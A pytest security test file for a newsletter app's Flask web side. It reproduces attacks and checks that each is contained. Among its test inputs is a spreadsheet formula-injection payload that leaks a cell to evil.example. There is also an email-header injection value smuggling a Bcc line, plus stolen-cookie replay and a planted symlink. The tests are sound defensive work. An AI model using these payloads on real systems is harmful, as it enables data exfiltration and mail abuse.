"""Issue 12, the web and files side: each attack on the web pages, reproduced and shown
contained. CSV export formula injection, subscribers' tokens in editors' previews and test
sends, a session cookie that outlives logout, the subscribe form as an oracle (status, timing,
HTTP 500), and the upload folder's file modes. Flask's test client on a real SQLite file;
mail through a real aiosmtpd server on 127.0.0.1."""

from __future__ import annotations

import csv
import email
import email.header
import email.policy
import io
import os
import random
import re
import stat
import statistics
import tempfile
import time
from datetime import UTC, date, datetime, timedelta

import pytest
from conftest import WEB_SECRET

from digest import users
from digest.audience.suppressions import suppress
from digest.delivery.notices import queued_notices
from digest.delivery.preview import preview_digest
from digest.delivery.publish import build_digest
from digest.tokens import make_token

PASSWORD = "correct horse battery"
DAY = datetime(2025, 1, 20, 6, 0, tzinfo=UTC)
BUILT_AT = datetime(2025, 1, 21, 4, 0, tzinfo=UTC)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- helpers ------------------------------------------------------------------------------------


def csrf_from(html: str) -> str:
    m = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert m, "no CSRF field in the page"
    return m.group(1)


def login(client, name="ed", password=PASSWORD) -> str:
    page = client.get("/login").get_data(as_text=True)
    response = client.post(
        "/login", data={"csrf_token": csrf_from(page), "name": name, "password": password}
    )
    assert response.status_code == 302
    return csrf_from(client.get("/editor/").get_data(as_text=True))


def wait_for(condition, timeout: float = 15.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out waiting for the notices worker"
        time.sleep(0.02)


def parse(data: bytes):
    return email.message_from_bytes(data, policy=email.policy.default)


def status_of(db, address, slug="world"):
    row = db.execute(
        "SELECT s.status FROM subscriptions s JOIN subscribers p ON p.id = s.subscriber_id"
        " JOIN lists l ON l.id = s.list_id WHERE p.email = ? AND l.slug = ?",
        [address, slug],
    ).fetchone()
    return row[0] if row else None


@pytest.fixture
def staff(db, web_clock):
    users.add_user(db, "ed", PASSWORD, "editor", now=web_clock.now)
    users.add_user(db, "ada", PASSWORD, "admin", now=web_clock.now)


@pytest.fixture
def world(newsroom):
    return newsroom.add_list(tags=("Haiti", "Kenya"), title="World Desk")


@pytest.fixture
def smtp(smtp_server):
    return smtp_server()


@pytest.fixture
def app(make_web_app, smtp):
    return make_web_app(f'[[smtp]]\nurl = "{smtp.url()}"\n')


# --- 1. CSV export: formula injection --------------------------------------------------------------


def test_admin_export_neutralises_formulas_and_imports_back_unchanged(
    app, staff, db, world, newsroom
):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
    newsroom.subscribe(world, "ann@example.com", name=hostile)
    newsroom.subscribe(world, "-bob@example.com", name="-Bob", tags=["Kenya"])
    newsroom.subscribe(world, "cy@example.com", name="@Cy +1")
    client = app.test_client()
    csrf = login(client, "ada")
    text = client.get("/admin/lists/world/export.csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    # What a spreadsheet would evaluate: no cell starts with a formula character.
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert "'=HYPERLINK(" in text and "'-bob@example.com,'-Bob,Kenya,daily" in text
    assert "'@Cy +1" in text

    # Uploaded back, the export changes nothing: the ' added on export is taken off.
    response = client.post(
        "/admin/import",
        data={"csrf_token": csrf, "list": "world", "file": (io.BytesIO(text.encode()), "w.csv")},
        content_type="multipart/form-data",
    )
    html = response.get_data(as_text=True)
    assert "0 would be added, 0 would be activated, 0 would be updated, 3 unchanged" in html


# --- 2. previews and test sends never carry a subscriber's token ----------------------------------


@pytest.fixture
def built(db, world, newsroom):
    """A built daily digest of 21 Jan 2025 and two active subscribers (ken: Kenya only)."""
    from digest.config import load_config

    for day in (DAY, DAY + timedelta(days=1)):  # for the built issue, and the next one
        for i in range(3):
            newsroom.add_article(f"Haiti story {i}", day + timedelta(minutes=i), tags=["Haiti"])
            newsroom.add_article(f"Kenya story {i}", day + timedelta(minutes=i), tags=["Kenya"])
    newsroom.subscribe(world, "ann@example.com", name="Ann")
    ken = newsroom.subscribe(world, "ken@example.com", tags=["Kenya"], name="Ken Kamau")
    build_digest(db, load_config(None, env={}), world, "daily", date(2025, 1, 21), now=BUILT_AT)
    return ken


def real_tokens(subscriber_id, list_id):
    """The tokens in the subscriber's real message (issued at the build time)."""
    return [
        make_token(WEB_SECRET, purpose, subscriber_id, list_id, now=BUILT_AT)
        for purpose in ("unsubscribe", "preferences")
    ]


TOKEN_LINK = re.compile(r"/(?:u|p|c)/[A-Za-z0-9_-]{20,}")


def test_the_exact_preview_on_the_server_has_the_real_links(app, db, built, world):
    """What the editor must not get: the server's exact preview (``digest preview --as``)
    carries ken's working tokens and address."""
    exact = preview_digest(db, app.extensions["digest"].config, world, None, date(2025, 1, 21),
                           now=BUILT_AT, secret=WEB_SECRET, address="ken@example.com")  # fmt: skip
    assert exact.message is not None
    for token in real_tokens(built, world.id):
        assert token.encode() in exact.message.replace(b"=\r\n", b"")
    assert "ken@example.com" in exact.text


@pytest.mark.parametrize("issue", ["2025-01-21", "2025-01-22"])  # built, and not built yet
def test_editor_preview_as_a_subscriber_has_inert_links(app, db, built, world, staff, issue):
    client = app.test_client()
    login(client)
    query = f"list=world&date={issue}&address=ken@example.com"
    page = client.get(f"/editor/preview?{query}").get_data(as_text=True)
    frame = client.get(f"/editor/preview/frame?{query}").get_data(as_text=True)
    assert "to ken@example.com" in page  # whose variant it is
    assert "links here are placeholders" in page
    for shown in (page, frame):
        assert TOKEN_LINK.search(shown) is None
        for token in real_tokens(built, world.id):
            assert token not in shown
        assert "http://127.0.0.1:8080/preview-link/unsubscribe" in shown
    assert "ken@example.com" not in frame and "Ken Kamau" not in frame
    assert "Kenya story" in frame and "Haiti story" not in frame  # ken's variant all the same


def test_send_test_as_a_subscriber_carries_no_token_or_address(
    make_web_app, smtp, db, built, world, staff
):
    # With a mailto in List-Unsubscribe too: a real message carries the token there as well.
    app = make_web_app(
        f'[site]\nunsubscribe_mailto = "unsub@news.example.com"\n[[smtp]]\nurl = "{smtp.url()}"\n'
    )
    client = app.test_client()
    csrf = login(client)
    response = client.post(
        "/editor/preview/send",
        data={"csrf_token": csrf, "list": "world", "date": "2025-01-21",
              "address": "ken@example.com", "to": "ed@example.org"},
    )  # fmt: skip
    assert response.status_code == 200, response.get_data(as_text=True)
    [received] = smtp.handler.received
    assert received.rcpt_to == ["ed@example.org"]
    message = parse(received.data)
    text = message.get_body(("plain",)).get_content()
    html = message.get_body(("html",)).get_content()
    whole = received.data.decode("ascii") + text + html
    assert "ken@example.com" not in whole and "Ken Kamau" not in whole
    assert TOKEN_LINK.search(text + html + str(message["List-Unsubscribe"])) is None
    for token in real_tokens(built, world.id):
        assert token not in whole
    assert "Kenya story" in text and "Haiti story" not in text
    inert = "http://127.0.0.1:8080/preview-link/unsubscribe"
    assert message["List-Unsubscribe"].startswith(f"<{inert}>, <mailto:unsub@news.example.com?")
    assert message["Subject"].startswith("[TEST] ")

    # What a mailbox provider does with the test copy's header (RFC 8058), and what a reader
    # who clicks its links sees: nothing changes for anyone.
    anon = app.test_client()
    one_click = anon.post(
        "/preview-link/unsubscribe",
        data="List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )
    assert one_click.status_code == 200
    for url in set(re.findall(r"http://127\.0\.0\.1:8080(/[^\s\"<>]*)", text + html)):
        assert anon.get(url).status_code in (200, 404), url
    page = anon.get("/preview-link/preferences").get_data(as_text=True)
    assert "This link is from a preview" in page
    assert anon.get("/preview-link/other").status_code == 404
    assert status_of(db, "ken@example.com") == "active"


# --- 3. logout really logs out ---------------------------------------------------------------


def cookie_of(client) -> str:
    cookie = client.get_cookie("digest_session")
    assert cookie is not None
    return cookie.value


def with_cookie(app, value: str):
    client = app.test_client()
    client.set_cookie("digest_session", value)
    return client


def test_logout_ends_the_session_for_every_copy_of_the_cookie(web_app, staff):
    client = web_app.test_client()
    csrf = login(client)
    stolen = cookie_of(client)  # e.g. copied from a shared computer or a proxy log
    assert with_cookie(web_app, stolen).get("/editor/").status_code == 200
    client.post("/logout", data={"csrf_token": csrf})
    assert client.get("/editor/").status_code == 302
    replay = with_cookie(web_app, stolen).get("/editor/")
    assert replay.status_code == 302 and replay.location.startswith("/login")


def test_logging_out_one_session_leaves_the_others(web_app, staff):
    laptop, phone = web_app.test_client(), web_app.test_client()
    csrf = login(laptop)
    login(phone)
    laptop.post("/logout", data={"csrf_token": csrf})
    assert laptop.get("/editor/").status_code == 302
    assert phone.get("/editor/").status_code == 200


def test_a_password_change_ends_every_session(web_app, staff, db, run):
    client = web_app.test_client()
    login(client)
    stolen = cookie_of(client)
    users.set_password(db, "ed", "a brand new password")
    assert client.get("/editor/").status_code == 302
    assert with_cookie(web_app, stolen).get("/editor/").status_code == 302
    login(client, password="a brand new password")
    assert client.get("/editor/").status_code == 200
    # The same from the command line.
    result = run("users", "password", "ed", input="another new password\nanother new password\n")
    assert result.exit_code == 0 and "its sessions have ended" in result.output
    assert "another new password" not in result.output
    assert client.get("/editor/").status_code == 302
    assert run("users", "password", "nobody", "--password-stdin", input="x" * 12).exit_code == 1


def test_the_database_never_holds_a_session_token(web_app, staff, db):
    client = web_app.test_client()
    login(client)
    from itsdangerous import URLSafeTimedSerializer  # what Flask signs the cookie with

    key = web_app.config["SECRET_KEY"]
    serializer = URLSafeTimedSerializer(key, salt="cookie-session", signer_kwargs={
        "key_derivation": "hmac", "digest_method": __import__("hashlib").sha1})  # fmt: skip
    token = serializer.loads(cookie_of(client))["sid"]
    dump = "\n".join(db.conn.iterdump())
    assert token not in dump
    assert db.execute("SELECT count(*) FROM staff_sessions").fetchone()[0] == 1


def test_expired_sessions_are_swept_at_the_next_login(web_app, staff, db, web_clock):
    login(web_app.test_client())
    web_clock.advance(hours=13)
    login(web_app.test_client())
    assert db.execute("SELECT count(*) FROM staff_sessions").fetchone()[0] == 1


# --- 4. the subscribe form is not an oracle -----------------------------------------------------

ENCODED_NAME = "=?utf-8?q?=0D=0ABcc:_victim@evil.example?="
OUTCOMES = ("new", "pending", "active", "unsubscribed", "bounced", "suppressed", "encoded-word")


def prepare(newsroom, db, world, outcome: str, address: str) -> dict[str, str]:
    """Put ``address`` in the state of ``outcome``; return the form fields to submit."""
    if outcome in ("pending", "active", "unsubscribed", "bounced"):
        newsroom.subscribe(world, address, status=outcome, tags=["Haiti"])
    elif outcome == "suppressed":
        suppress(db, address, "spam trap", source="cli", now=datetime(2025, 1, 1, tzinfo=UTC))
    form = {"email": address}
    if outcome == "encoded-word":
        form["name"] = ENCODED_NAME
    return form


@pytest.fixture
def slow_relay(smtp):
    """A relay that takes half a second per message: a request that waited for it would
    show it in its time."""
    smtp.handler.hold = lambda item: time.sleep(0.5)
    return smtp


def test_every_subscribe_outcome_gets_the_same_answer_in_the_same_time(
    make_web_app, slow_relay, db, world, newsroom
):
    app = make_web_app(f'[[smtp]]\nurl = "{slow_relay.url()}"\n[web]\nsubscribe_limit = 0\n')
    client = app.test_client()
    csrf = csrf_from(client.get("/subscribe/world").get_data(as_text=True))
    rounds = 5
    plan = [
        (outcome, prepare(newsroom, db, world, outcome, f"{outcome}.{i}@example.com"))
        for i in range(rounds)
        for outcome in OUTCOMES
    ]
    random.Random(12).shuffle(plan)
    warm = {"csrf_token": csrf, "frequency": "daily", "tag": ["haiti"], "email": "w@example.com"}
    client.post("/subscribe/world", data=warm)  # the first request starts the worker

    times: dict[str, list[float]] = {outcome: [] for outcome in OUTCOMES}
    answers = set()
    for outcome, form in plan:
        data = {"csrf_token": csrf, "frequency": "daily", "tag": ["haiti", "kenya"], **form}
        started = time.perf_counter()
        response = client.post("/subscribe/world", data=data)
        times[outcome].append(time.perf_counter() - started)
        headers = tuple(sorted((k, v) for k, v in response.headers.items() if k != "Date"))
        answers.add((response.status_code, headers, response.get_data()))
    # One answer for all: 303 to the same "check your inbox" page, byte for byte.
    assert len(answers) == 1, answers
    status, headers, _ = answers.pop()
    assert status == 303 and dict(headers)["Location"] == "/subscribe/world/sent"
    # One timing class: no outcome waits for the relay (0.5 s per message).
    medians = {outcome: statistics.median(t) for outcome, t in times.items()}
    assert max(medians.values()) < 0.25, medians
    assert max(medians.values()) - min(medians.values()) < 0.1, medians

    # The worker sends afterwards, to exactly the addresses the rules allow.
    wait_for(lambda: queued_notices(db) == 0, timeout=60)
    mailed = {r.split(".")[0] for r in slow_relay.handler.recipients() if r != "w@example.com"}
    assert mailed == {"new", "pending", "active", "unsubscribed", "encoded-word"}


def test_a_name_with_an_encoded_word_is_a_303_not_a_500(app, smtp, db, world):
    client = app.test_client()
    csrf = csrf_from(client.get("/subscribe/world").get_data(as_text=True))
    data = {"csrf_token": csrf, "frequency": "daily", "tag": ["haiti"], "email": "eve@example.com",
            "name": ENCODED_NAME}  # fmt: skip
    response = client.post("/subscribe/world", data=data)
    assert response.status_code == 303 and response.location == "/subscribe/world/sent"
    assert status_of(db, "eve@example.com") == "pending"
    # Whatever becomes of the email, the worker goes on with the next one.
    client.post("/subscribe/world", data={**data, "email": "zed@example.com", "name": "Zed"})
    wait_for(lambda: queued_notices(db) == 0)
    assert "zed@example.com" in smtp.handler.recipients()


def test_a_name_with_an_encoded_word_gets_its_confirmation_with_the_name_as_typed(
    app, smtp, db, world
):
    client = app.test_client()
    csrf = csrf_from(client.get("/subscribe/world").get_data(as_text=True))
    client.post("/subscribe/world", data={"csrf_token": csrf, "frequency": "daily",
                "tag": ["haiti"], "email": "eve@example.com", "name": ENCODED_NAME})  # fmt: skip
    wait_for(lambda: queued_notices(db) == 0)
    [received] = smtp.handler.received
    message = parse(received.data)
    assert "Bcc" not in message and received.rcpt_to == ["eve@example.com"]
    # The name is shown as typed: encoded, never decoded into a line break. (Read with
    # RFC 2047's rule that space between encoded-words is dropped, which the email package's
    # newer parser does not apply inside a phrase.)
    raw_to = re.search(rb"\r\nTo: (.*?)\r\n(?! )", received.data, re.S).group(1).decode()
    decoded = str(email.header.make_header(email.header.decode_header(raw_to)))
    assert decoded == f"{ENCODED_NAME} <eve@example.com>"


# --- 6. the upload folder -----------------------------------------------------------------------


@pytest.fixture
def private_tmp(tmp_path, monkeypatch):
    """The system temporary folder, here a fresh one, and a umask of 000 (the attack: files
    created readable by every local user)."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "systmp"))
    (tmp_path / "systmp").mkdir(mode=0o777)
    os.chmod(tmp_path / "systmp", 0o1777)
    old = os.umask(0)
    yield tmp_path / "systmp"
    os.umask(old)


def upload(client, csrf, data: bytes):
    return client.post(
        "/admin/import",
        data={"csrf_token": csrf, "list": "world", "file": (io.BytesIO(data), "people.csv")},
        content_type="multipart/form-data",
    )


def test_uploads_are_kept_in_a_0700_folder_as_0600_files(app, staff, world, private_tmp):
    client = app.test_client()
    csrf = login(client, "ada")
    response = upload(client, csrf, b"email,name\nann@example.com,Ann\n")
    assert response.status_code == 200
    [folder] = list(private_tmp.iterdir())
    assert folder.name == f"digest-web-imports-{os.getuid()}"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    [kept] = list(folder.iterdir())
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    # A folder of ours that was opened up is closed again.
    os.chmod(folder, 0o777)
    upload(client, csrf, b"email\nbob@example.com\n")
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_an_upload_folder_planted_by_someone_else_is_refused(app, staff, world, private_tmp):
    client = app.test_client()
    csrf = login(client, "ada")
    planted = private_tmp / f"digest-web-imports-{os.getuid()}"
    elsewhere = private_tmp / "attacker"
    elsewhere.mkdir()
    planted.symlink_to(elsewhere)  # another local user's link to a folder they can read
    response = upload(client, csrf, b"email\nann@example.com\n")
    assert response.status_code == 400
    assert "is not a folder owned by this user" in response.get_data(as_text=True)
    assert list(elsewhere.iterdir()) == []
    if os.getuid() == 0:  # root can make a folder that belongs to someone else
        planted.unlink()
        planted.mkdir()
        os.chown(planted, 65534, 65534)
        response = upload(client, csrf, b"email\nann@example.com\n")
        assert response.status_code == 400 and list(planted.iterdir()) == []
